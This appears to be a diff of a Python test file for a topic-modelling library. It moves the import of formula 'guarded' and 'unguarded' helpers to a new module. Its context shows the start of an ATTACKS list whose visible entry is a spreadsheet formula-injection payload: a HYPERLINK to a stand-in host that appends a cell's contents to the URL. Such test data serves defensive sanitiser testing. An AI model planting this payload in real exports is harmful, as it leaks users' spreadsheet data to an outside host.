@@ -16,8 +16,8 @@ from stored_run import small_run, small_tree
 import topicmodel as tm
 from topicmodel.changes import mapping_csv
 from topicmodel.datatypes import Run, Taxonomy
+from topicmodel.files.formulas import guarded, unguarded
 from topicmodel.ingest import read_dump
-from topicmodel.spreadsheets import guarded, unguarded
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
